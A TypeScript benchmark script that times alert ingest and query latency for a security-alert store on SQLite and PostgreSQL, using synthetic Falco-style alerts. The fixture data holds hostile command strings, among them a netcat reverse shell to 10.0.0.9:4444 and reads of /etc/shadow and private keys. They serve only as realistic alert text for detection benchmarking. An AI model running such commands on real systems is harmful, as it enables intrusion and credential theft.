/**
 * `npm run bench:store`: the alert store on SQLite and PostgreSQL.
 *
 *   1. Ingest: alerts/s through `Store.insertAlerts` (batches of VIGIL_BENCH_STORE_BATCH, default 1000)
 *      into an empty store, against a raw batched insert of the same rows into the same schema with the
 *      driver alone (rows encoded beforehand: the ceiling of the API path), and for PostgreSQL also
 *      `COPY` through psql (the server's own bulk path, no duplicate check).
 *   2. Queries: p50/p95 latency of first pages (limit 100), a deep page and counts for typical filters
 *      over VIGIL_BENCH_STORE_ROWS stored alerts (default 1,000,000; 10,000,000 works, slowly).
 *
 * PostgreSQL is `VIGIL_PG_URL` when set, else the server `scripts/services/postgres.sh` starts; without
 * one the PostgreSQL half is reported as skipped. Prints a table and `BENCH <name> <value> <unit>`
 * lines, and records the figures in docs/benchmarks.md between the bench:store markers.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { cpus, loadavg, tmpdir, totalmem } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type Database from 'better-sqlite3';
import pg from 'pg';
import type { Priority } from '../src/engine/rules/index.js';
import { ALERT_COLUMNS, encodeAlert, type AlertRow } from '../src/store/alert-row.js';
import type { AlertQuery, Store, StoredAlert } from '../src/store/index.js';
import {
  columnArrays as pgColumnArrays,
  INSERT_SQL as PG_INSERT_SQL,
  openPostgresStore,
  type PostgresStore,
} from '../src/store/postgres/store.js';
import { openSqliteStore, type SqliteStore } from '../src/store/sqlite/store.js';
import { rng } from './synthetic-stream.js';

/** The repository root: the nearest folder above this file with a package.json (from bench/ or dist/bench/). */
function findRoot(): string {
  let d = dirname(fileURLToPath(import.meta.url));
  while (!existsSync(join(d, 'package.json')) && dirname(d) !== d) d = dirname(d);
  return d;
}
const root = findRoot();
const INGEST = Number(process.env.VIGIL_BENCH_STORE_INGEST ?? 200_000);
const ROWS = Number(process.env.VIGIL_BENCH_STORE_ROWS ?? 1_000_000);
const BATCH = Number(process.env.VIGIL_BENCH_STORE_BATCH ?? 1000);
/** A hub that coalesces agents' batches writes larger ones: measured too. */
const BIG_BATCH = 10_000;
const RUNS = Number(process.env.VIGIL_BENCH_STORE_RUNS ?? 25);
const SCHEMA = 'vigil_bench';

// ---------------------------------------------------------------------------------------------------
// Synthetic alerts: what Falco's stable rules raise on a busy cluster, spread over a week.

interface RuleSpec {
  name: string;
  priority: Priority;
  tags: string[];
  source: 'syscall' | 'k8s_audit';
  text: string;
}

const RULE_SPECS: RuleSpec[] = [
  {
    name: 'Terminal shell in container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
    source: 'syscall',
    text: 'A shell was spawned in a container with an attached terminal',
  },
  {
    name: 'Read sensitive file untrusted',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'],
    source: 'syscall',
    text: 'Sensitive file opened for reading by non-trusted program',
  },
  {
    name: 'Write below etc',
    priority: 'ERROR',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_persistence', 'T1098'],
    source: 'syscall',
    text: 'File below /etc opened for writing',
  },
  {
    name: 'Contact K8S API Server From Container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
    source: 'syscall',
    text: 'Unexpected connection to K8s API Server from container',
  },
  {
    name: 'Netcat Remote Code Execution in Container',
    priority: 'WARNING',
    tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_execution', 'T1059'],
    source: 'syscall',
    text: 'Netcat runs inside container that allows remote code execution',
  },
  {
    name: 'Clear Log Activities',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1070'],
    source: 'syscall',
    text: 'Log files were tampered',
  },
  {
    name: 'Launch Privileged Container',
    priority: 'INFORMATIONAL',
    tags: ['maturity_incubating', 'container', 'cis', 'mitre_execution', 'T1610'],
    source: 'syscall',
    text: 'Privileged container started',
  },
  {
    name: 'Drop and execute new binary in container',
    priority: 'CRITICAL',
    tags: ['maturity_stable', 'container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'],
    source: 'syscall',
    text: 'Executing binary not part of base image',
  },
  {
    name: 'Search Private Keys or Passwords',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_credential_access', 'T1552.001'],
    source: 'syscall',
    text: 'Grep private keys or passwords activities found',
  },
  {
    name: 'Debugfs Launched in Privileged Container',
    priority: 'WARNING',
    tags: ['maturity_stable', 'container', 'cis', 'process', 'mitre_privilege_escalation', 'T1611'],
    source: 'syscall',
    text: 'Debugfs launched started in a privileged container',
  },
  {
    name: 'Attach/Exec Pod',
    priority: 'NOTICE',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Attach/Exec to pod',
  },
  {
    name: 'Create Privileged Pod',
    priority: 'WARNING',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Pod started with privileged container',
  },
  {
    name: 'Create Sensitive Mount Pod',
    priority: 'WARNING',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'Pod started with sensitive mount',
  },
  {
    name: 'K8s Secret Deleted',
    priority: 'INFORMATIONAL',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'K8s Secret Deleted',
  },
  {
    name: 'Disallowed K8s User',
    priority: 'EMERGENCY',
    tags: ['k8s'],
    source: 'k8s_audit',
    text: 'K8s Operation performed by user not in allowed list of users',
  },
];
// How often each rule fires, relative (noisy rules dominate, as in real deployments).
const RULE_WEIGHTS = [30, 20, 4, 12, 1, 3, 10, 1, 2, 0.2, 8, 1, 1, 3, 0.05];
const HOSTS = Array.from({ length: 20 }, (_, i) => `ip-10-0-${Math.floor(i / 8)}-${10 + i}.ec2.internal`);
const NAMESPACES = [
  'default',
  'kube-system',
  'payments',
  'checkout',
  'monitoring',
  'ingress-nginx',
  'data',
  'ml',
  'auth',
  'search',
  'web',
  'batch',
  'ci',
  'logging',
  'istio-system',
];
const IMAGES = [
  'nginx',
  'redis',
  'postgres',
  'node',
  'python',
  'busybox',
  'envoy',
  'fluent-bit',
  'grafana',
  'kafka',
];
const CONTAINERS = Array.from({ length: 300 }, (_, i) => ({
  id: (0x3ad7b26ded6dn + BigInt(i) * 7919n).toString(16).slice(0, 12),
  name: `${IMAGES[i % IMAGES.length]}-${i}`,
  image: `registry.example/${IMAGES[i % IMAGES.length]}:1.${i % 7}`,
  ns: NAMESPACES[i % NAMESPACES.length]!,
}));
const WEEK_NS = 7n * 24n * 3600n * 1_000_000_000n;
const START_NS = 1_732_000_000_000_000_000n;

function ruleIndex(r: number): number {
  const total = RULE_WEIGHTS.reduce((a, b) => a + b, 0);
  let x = r * total;
  for (let i = 0; i < RULE_WEIGHTS.length; i++) if ((x -= RULE_WEIGHTS[i]!) < 0) return i;
  return RULE_WEIGHTS.length - 1;
}

/** Alerts `from … from+count-1` of a deterministic stream of `total`, times ascending over a week. */
function makeAlerts(from: number, count: number, total: number, seed = 1): StoredAlert[] {
  const r = rng(seed * 1_000_003 + from);
  const out: StoredAlert[] = new Array<StoredAlert>(count);
  for (let k = 0; k < count; k++) {
    const i = from + k;
    const spec = RULE_SPECS[ruleIndex(r())]!;
    const host = HOSTS[Math.floor(r() * HOSTS.length)]!;
    const time = START_NS + (WEEK_NS * BigInt(i)) / BigInt(total) + BigInt(Math.floor(r() * 1000));
    const c = CONTAINERS[Math.floor(r() * CONTAINERS.length)]!;
    const pid = 1000 + Math.floor(r() * 60000);
    const user = r() < 0.7 ? 'root' : 'app';
    let output: string;
    let fields: Record<string, unknown>;
    if (spec.source === 'syscall') {
      const inContainer = r() < 0.85;
      const cmd = [
        'bash -i',
        'cat /etc/shadow',
        'nc -e /bin/sh 10.0.0.9 4444',
        'grep -r BEGIN RSA /home',
        'curl -s https://10.96.0.1:443/api',
        'tee -a /etc/hosts',
      ][Math.floor(r() * 6)]!;
      fields = {
        'evt.type': spec.tags.includes('network')
          ? 'connect'
          : spec.tags.includes('filesystem')
            ? 'openat'
            : 'execve',
        'user.name': user,
        'user.loginuid': -1,
        'proc.cmdline': cmd,
        'proc.pid': pid,
        'proc.exepath': `/usr/bin/${cmd.split(' ')[0]}`,
        'proc.pname': r() < 0.5 ? 'runc' : 'containerd-shim',
        'fd.name': spec.tags.includes('filesystem') ? `/etc/${['shadow', 'hosts', 'passwd'][i % 3]}` : null,
        'container.id': inContainer ? c.id : 'host',
        'container.name': inContainer ? c.name : 'host',
        'container.image.repository': inContainer ? c.image : null,
        'k8s.ns.name': inContainer ? c.ns : null,
        'k8s.pod.name': inContainer ? `${c.name}-7d9f8b6c5-${(i % 97).toString(36)}x` : null,
        'evt.rawtime': time,
      };
      output = `${spec.text} (evt_type=${fields['evt.type']} user=${user} user_loginuid=-1 process=${cmd.split(' ')[0]} proc_exepath=${fields['proc.exepath']} parent=${fields['proc.pname']} command=${cmd} terminal=34816 container_id=${fields['container.id']} container_name=${fields['container.name']} k8s_ns=${fields['k8s.ns.name'] ?? '<NA>'} k8s_pod_name=${fields['k8s.pod.name'] ?? '<NA>'})`;
    } else {
      fields = {
        'ka.user.name': r() < 0.5 ? 'system:serviceaccount:ci:deployer' : 'alice@example.com',
        'ka.verb': ['create', 'delete', 'get'][i % 3],
        'ka.target.resource': 'pods',
        'ka.target.namespace': c.ns,
        'ka.target.name': `${c.name}-7d9f8b6c5-${(i % 97).toString(36)}x`,
        'ka.uri': `/api/v1/namespaces/${c.ns}/pods/${c.name}/exec?command=sh`,
        'ka.response.code': '101',
      };
      output = `${spec.text} (user=${fields['ka.user.name']} pod=${fields['ka.target.name']} ns=${c.ns} action=${fields['ka.uri']})`;
    }
    out[k] = {
      id: `${host}:b1:${i.toString().padStart(9, '0')}`,
      rule: spec.name,
      priority: spec.priority,
      source: spec.source,
      time,
      output,
      outputFields: fields,
      tags: spec.tags,
      hostname: host,
    };
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------
// Raw inserts: the same rows, encoded beforehand, written by the driver alone.

function rawSqliteInsert(db: Database.Database, rows: readonly AlertRow[]): number {
  const per = 64;
  const one = `(${ALERT_COLUMNS.map(() => '?').join(',')})`;
  const many = db.prepare(
    `INSERT INTO alerts (${ALERT_COLUMNS.join(',')}) VALUES ${Array.from({ length: per }, () => one).join(',')} ON CONFLICT (id) DO NOTHING`,
  );
  const single = db.prepare(
    `INSERT INTO alerts (${ALERT_COLUMNS.join(',')}) VALUES ${one} ON CONFLICT (id) DO NOTHING`,
  );
  const container = db.prepare(
    'INSERT INTO alert_containers (container_id, container_name) VALUES (?, ?) ON CONFLICT DO NOTHING',
  );
  const params: unknown[] = [];
  const push = (r: AlertRow): void => {
    params.push(
      r.id,
      r.time,
      r.rule,
      r.priority,
      r.source,
      r.hostname,
      r.containerId,
      r.containerName,
      r.k8sNs,
      r.output,
      r.outputFields,
      r.outputTypes,
      JSON.stringify(r.tags),
    );
  };
  return db
    .transaction(() => {
      let n = 0;
      let i = 0;
      for (; i + per <= rows.length; i += per) {
        params.length = 0;
        for (let j = i; j < i + per; j++) push(rows[j]!);
        n += many.run(params).changes;
      }
      for (; i < rows.length; i++) {
        params.length = 0;
        push(rows[i]!);
        n += single.run(params).changes;
      }
      // The same side writes as the store (container name → id), so both fill the same tables.
      const seen = new Set<string>();
      for (const r of rows) {
        if (r.containerId === null || r.containerName === null) continue;
        const key = `${r.containerId}\u0000${r.containerName}`;
        if (!seen.has(key)) {
          seen.add(key);
          container.run(r.containerId, r.containerName);
        }
      }
      return n;
    })
    .immediate();
}

function csvField(v: string | null): string {
  return v === null ? '' : `"${v.replace(/"/g, '""')}"`;
}

function pgCsv(rows: readonly AlertRow[]): string {
  const pgArr = (t: string[]): string =>
    `{${t.map((x) => `"${x.replace(/[\\"]/g, (ch) => `\\${ch}`)}"`).join(',')}}`;
  let s = '';
  for (const r of rows) {
    s += `${[csvField(r.id), r.time.toString(), csvField(r.rule), String(r.priority), csvField(r.source), csvField(r.hostname), csvField(r.containerId), csvField(r.containerName), csvField(r.k8sNs), csvField(r.output), csvField(r.outputFields), csvField(r.outputTypes), csvField(pgArr(r.tags))].join(',')}\n`;
  }
  return s;
}

// ---------------------------------------------------------------------------------------------------

interface IngestResult {
  label: string;
  alertsPerSec: number;
  /** Alerts per second of this process's CPU time: meaningful for SQLite (in-process) only. */
  alertsPerCpuSec?: number;
}

interface QueryResult {
  label: string;
  p50: number;
  p95: number;
  rows: number;
}

/** Times `insert` over the whole stream; generating and `prepare` (encoding for raw paths) are untimed. */
async function timeIngest<P>(
  label: string,
  total: number,
  prepare: (batch: StoredAlert[]) => P,
  insert: (prepared: P) => Promise<number> | number,
  batchSize = BATCH,
): Promise<IngestResult> {
  let elapsed = 0;
  let cpu = 0;
  let inserted = 0;
  for (let from = 0; from < total; from += batchSize) {
    const prepared = prepare(makeAlerts(from, Math.min(batchSize, total - from), total));
    const c0 = process.cpuUsage();
    const t0 = process.hrtime.bigint();
    inserted += await insert(prepared);
    elapsed += Number(process.hrtime.bigint() - t0);
    const c = process.cpuUsage(c0);
    cpu += c.user + c.system;
  }
  if (inserted !== total) throw new Error(`${label}: inserted ${inserted} of ${total}`);
  return { label, alertsPerSec: total / (elapsed / 1e9), alertsPerCpuSec: total / (cpu / 1e6) };
}

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

/** Query shapes; `i` varies the parameters so runs do not just hit one cached answer. */
function queryShapes(): { label: string; run: (s: Store, i: number) => Promise<number> }[] {
  const hour = 3600n * 1_000_000_000n;
  const at = (i: number): bigint => START_NS + (WEEK_NS * BigInt((i * 7919) % 1000)) / 1000n;
  const page = async (s: Store, q: AlertQuery): Promise<number> =>
    (await s.queryAlerts({ limit: 100, ...q })).alerts.length;
  return [
    { label: 'latest 100, no filter', run: (s) => page(s, {}) },
    { label: 'one hour window', run: (s, i) => page(s, { since: at(i), until: at(i) + hour }) },
    { label: 'rule (frequent)', run: (s, i) => page(s, { rule: RULE_SPECS[i % 2 === 0 ? 0 : 6]!.name }) },
    { label: 'rule (rare)', run: (s) => page(s, { rule: RULE_SPECS[14]!.name }) },
    { label: 'minPriority CRITICAL', run: (s) => page(s, { minPriority: 'CRITICAL' }) },
    {
      label: 'tags any of (common)',
      run: (s, i) => page(s, { tags: [i % 2 ? 'shell' : 'network', 'T1059'] }),
    },
    { label: 'tags any of (rare)', run: (s) => page(s, { tags: ['PCI_DSS_11.5.1'] }) },
    { label: 'hostname', run: (s, i) => page(s, { hostname: HOSTS[i % HOSTS.length]! }) },
    {
      label: 'container (name)',
      run: (s, i) => page(s, { container: CONTAINERS[(i * 31) % CONTAINERS.length]!.name }),
    },
    {
      label: 'namespace + priority',
      run: (s, i) => page(s, { namespace: NAMESPACES[i % NAMESPACES.length]!, minPriority: 'WARNING' }),
    },
    { label: 'text (common)', run: (s) => page(s, { text: 'cat /etc/shadow' }) },
    {
      label: 'text (rare), one day window',
      run: (s, i) => page(s, { text: 'nc -e /bin/sh', since: at(i), until: at(i) + 24n * hour }),
    },
    {
      label: 'page 10 via cursor',
      run: async (s, i) => {
        let cursor: string | undefined;
        let n = 0;
        for (let p = 0; p < 10; p++) {
          const r = await s.queryAlerts({
            limit: 100,
            hostname: HOSTS[i % HOSTS.length]!,
            ...(cursor ? { cursor } : {}),
          });
          n = r.alerts.length;
          cursor = r.nextCursor;
        }
        return n;
      },
    },
    { label: 'count, one hour window', run: (s, i) => s.countAlerts({ since: at(i), until: at(i) + hour }) },
    {
      label: 'count, rule, whole week',
      run: (s, i) => s.countAlerts({ rule: RULE_SPECS[i % RULE_SPECS.length]!.name }),
    },
  ];
}

async function timeQueries(store: Store): Promise<QueryResult[]> {
  const results: QueryResult[] = [];
  for (const shape of queryShapes()) {
    await shape.run(store, 0); // warm the statement and the cache
    const samples: number[] = [];
    let rows = 0;
    for (let i = 0; i < RUNS; i++) {
      const t0 = process.hrtime.bigint();
      rows += await shape.run(store, i + 1);
      samples.push(Number(process.hrtime.bigint() - t0) / 1e6);
    }
    samples.sort((a, b) => a - b);
    results.push({
      label: shape.label,
      p50: percentile(samples, 50),
      p95: percentile(samples, 95),
      rows: Math.round(rows / RUNS),
    });
  }
  return results;
}

async function fillStore(store: Store, total: number): Promise<number> {
  const t0 = Date.now();
  const step = 10_000;
  for (let from = 0; from < total; from += step) {
    const batch = makeAlerts(from, Math.min(step, total - from), total, 2);
    await store.insertAlerts(batch);
    if ((from / step) % 20 === 0)
      process.stderr.write(`\r  filled ${from.toLocaleString('en-US')} / ${total.toLocaleString('en-US')}`);
  }
  process.stderr.write('\n');
  return (Date.now() - t0) / 1000;
}

function pgUrl(): { url?: string; reason?: string } {
  if (process.env.VIGIL_PG_URL) return { url: process.env.VIGIL_PG_URL };
  const r = spawnSync('bash', [join(root, 'scripts', 'services', 'postgres.sh')], {
    encoding: 'utf8',
    timeout: 600_000,
  });
  if (r.status === 0) return { url: r.stdout.trim().split('\n').at(-1) };
  return { reason: r.stderr.trim().split('\n').at(-1) ?? `postgres.sh exited ${r.status}` };
}

async function pgFresh(url: string): Promise<PostgresStore> {
  const admin = new pg.Client({ connectionString: url });
  await admin.connect();
  await admin.query(`DROP SCHEMA IF EXISTS ${SCHEMA} CASCADE`);
  await admin.end();
  return openPostgresStore({ url, schema: SCHEMA });
}

// ---------------------------------------------------------------------------------------------------

const loadAtStart = loadavg()
  .map((l) => l.toFixed(2))
  .join(' / ');
const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-store-'));
const ingest: Record<string, IngestResult[]> = { sqlite: [], postgres: [] };
const queries: Record<string, QueryResult[]> = {};
const fillSeconds: Record<string, number> = {};
let pgSkip: string | undefined;

try {
  // SQLite ------------------------------------------------------------------------------------------
  console.error(`sqlite: ingest ${INGEST.toLocaleString('en-US')} alerts`);
  {
    let s: SqliteStore = await openSqliteStore({ path: join(dir, 'api.db') });
    ingest.sqlite!.push(
      await timeIngest(
        'Store.insertAlerts',
        INGEST,
        (batch) => batch,
        async (batch) => (await s.insertAlerts(batch)).inserted,
      ),
    );
    await s.close();
    s = await openSqliteStore({ path: join(dir, 'api-big.db') });
    ingest.sqlite!.push(
      await timeIngest(
        `Store.insertAlerts, batches of ${BIG_BATCH.toLocaleString('en-US')}`,
        INGEST,
        (batch) => batch,
        async (batch) => (await s.insertAlerts(batch)).inserted,
        BIG_BATCH,
      ),
    );
    await s.close();
    s = await openSqliteStore({ path: join(dir, 'raw.db') });
    const db = s.db;
    ingest.sqlite!.push(
      await timeIngest(
        'raw driver insert (ceiling)',
        INGEST,
        (batch) => batch.map(encodeAlert),
        (rows) => rawSqliteInsert(db, rows),
      ),
    );
    await s.close();
  }
  console.error(`sqlite: fill ${ROWS.toLocaleString('en-US')} alerts, then query`);
  {
    const s = await openSqliteStore({ path: join(dir, 'query.db') });
    fillSeconds.sqlite = await fillStore(s, ROWS);
    s.db.exec('ANALYZE');
    queries.sqlite = await timeQueries(s);
    await s.close();
  }

  // PostgreSQL --------------------------------------------------------------------------------------
  const { url, reason } = pgUrl();
  if (!url) {
    pgSkip = `no PostgreSQL (${reason})`;
  } else {
    console.error(`postgres: ingest ${INGEST.toLocaleString('en-US')} alerts`);
    let s = await pgFresh(url);
    ingest.postgres!.push(
      await timeIngest(
        'Store.insertAlerts',
        INGEST,
        (batch) => batch,
        async (batch) => (await s.insertAlerts(batch)).inserted,
      ),
    );
    await s.close();
    s = await pgFresh(url);
    const pool = s.pool;
    ingest.postgres!.push(
      await timeIngest(
        'raw driver insert (ceiling)',
        INGEST,
        (batch) => pgColumnArrays(batch.map(encodeAlert)),
        async (cols) => (await pool.query(PG_INSERT_SQL, cols)).rowCount ?? 0,
      ),
    );
    await s.close();
    // COPY through psql: the bulk path of the server itself, into the same table and indexes.
    if (spawnSync('psql', ['--version']).status === 0) {
      s = await pgFresh(url);
      const csvPath = join(dir, 'alerts.csv');
      let csv = '';
      for (let from = 0; from < INGEST; from += BATCH)
        csv += pgCsv(makeAlerts(from, Math.min(BATCH, INGEST - from), INGEST).map(encodeAlert));
      writeFileSync(csvPath, csv);
      const t0 = process.hrtime.bigint();
      const r = spawnSync(
        'psql',
        [
          '-X',
          '-q',
          '-v',
          'ON_ERROR_STOP=1',
          url,
          '-c',
          `SET search_path=${SCHEMA}`,
          '-c',
          `\\copy alerts (${ALERT_COLUMNS.join(', ')}) FROM '${csvPath}' WITH (FORMAT csv)`,
        ],
        { encoding: 'utf8' },
      );
      const secs = Number(process.hrtime.bigint() - t0) / 1e9;
      if (r.status === 0 && (await s.countAlerts()) === INGEST) {
        ingest.postgres!.push({ label: 'COPY via psql (no duplicate check)', alertsPerSec: INGEST / secs });
      } else {
        console.error(`COPY failed: ${r.stderr}`);
      }
      await s.close();
    }
    console.error(`postgres: fill ${ROWS.toLocaleString('en-US')} alerts, then query`);
    s = await pgFresh(url);
    fillSeconds.postgres = await fillStore(s, ROWS);
    await s.pool.query('VACUUM ANALYZE alerts');
    queries.postgres = await timeQueries(s);
    await s.close();
    const admin = new pg.Client({ connectionString: url });
    await admin.connect();
    await admin.query(`DROP SCHEMA IF EXISTS ${SCHEMA} CASCADE`);
    await admin.end();
  }
} finally {
  rmSync(dir, { recursive: true, force: true });
}

// Report ------------------------------------------------------------------------------------------------
const fmt = (n: number): string => Math.round(n).toLocaleString('en-US');
const ms = (n: number): string => (n < 10 ? n.toFixed(2) : n.toFixed(1));
const machine = `${cpus()[0]?.model ?? 'unknown CPU'}, ${cpus().length} cores, ${(totalmem() / 2 ** 30).toFixed(0)} GiB, Node ${process.version}`;

const lines: string[] = [];
lines.push(
  `Ingest: ${INGEST.toLocaleString('en-US')} alerts into an empty store, batches of ${BATCH}. Load average at start: ${loadAtStart}` +
    ' (the machine is shared: wall-clock rates fall when others run; for SQLite, which runs in this process, alerts per CPU-second is also given).',
  '',
  '| backend | path | alerts/s | alerts per CPU-second | target |',
  '| --- | --- | ---: | ---: | --- |',
);
for (const [backend, rs] of Object.entries(ingest)) {
  for (const r of rs) {
    const target =
      backend === 'sqlite' && r.label === 'Store.insertAlerts'
        ? `≥ 50,000: ${r.alertsPerSec >= 50_000 ? 'met' : 'not met'}`
        : '';
    const perCpu = backend === 'sqlite' && r.alertsPerCpuSec !== undefined ? fmt(r.alertsPerCpuSec) : '—';
    lines.push(`| ${backend} | ${r.label} | ${fmt(r.alertsPerSec)} | ${perCpu} | ${target} |`);
  }
}
if (pgSkip) lines.push(`| postgres | skipped: ${pgSkip} | | | |`);
lines.push(
  '',
  `Queries over ${ROWS.toLocaleString('en-US')} stored alerts spread over one week (page size 100; ${RUNS} runs each, varied parameters; ms).`,
);
const backends = Object.keys(queries);
lines.push(
  '',
  `| query | ${backends.map((b) => `${b} p50 | ${b} p95`).join(' | ')} | rows returned |`,
  `| --- | ${backends.map(() => '---: | ---:').join(' | ')} | ---: |`,
);
const shapes = queries[backends[0] ?? 'sqlite'] ?? [];
shapes.forEach((q, i) => {
  const cells = backends.map((b) => {
    const r = queries[b]![i]!;
    return `${ms(r.p50)} | ${ms(r.p95)}`;
  });
  // Rows returned per backend (one figure when they agree, as they must).
  const counts = [...new Set(backends.map((b) => queries[b]![i]!.rows))].join(' / ');
  lines.push(`| ${q.label} | ${cells.join(' | ')} | ${counts} |`);
});
lines.push(
  '',
  `Filling the query stores took ${Object.entries(fillSeconds)
    .map(([b, s]) => `${b} ${s.toFixed(0)} s`)
    .join(', ')} (through the Store API in batches of 10,000).`,
);

console.log(lines.join('\n'));

const docPath = join(root, 'docs', 'benchmarks.md');
const block = [
  '<!-- bench:store:start -->',
  `Recorded ${new Date().toISOString().slice(0, 10)} by \`npm run bench:store\` on ${machine}.`,
  '',
  ...lines,
  '<!-- bench:store:end -->',
].join('\n');
if (existsSync(docPath)) {
  const doc = readFileSync(docPath, 'utf8');
  const re = /<!-- bench:store:start -->[\s\S]*?<!-- bench:store:end -->/;
  writeFileSync(docPath, re.test(doc) ? doc.replace(re, block) : `${doc.trimEnd()}\n\n${block}\n`);
}

const slug = (s: string): string =>
  s
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '_')
    .replace(/^_|_$/g, '');
for (const [backend, rs] of Object.entries(ingest)) {
  for (const r of rs) {
    const name = `store_${backend}_ingest_${slug(r.label.replace(/\(.*\)/, ''))}`;
    console.log(`BENCH ${name} ${Math.round(r.alertsPerSec)} alerts/s`);
    if (backend === 'sqlite' && r.alertsPerCpuSec !== undefined) {
      console.log(`BENCH ${name}_per_cpu_second ${Math.round(r.alertsPerCpuSec)} alerts/s`);
    }
  }
}
for (const [backend, qs] of Object.entries(queries)) {
  for (const q of qs) {
    console.log(`BENCH store_${backend}_query_${slug(q.label)}_p50 ${ms(q.p50)} ms`);
    console.log(`BENCH store_${backend}_query_${slug(q.label)}_p95 ${ms(q.p95)} ms`);
  }
}
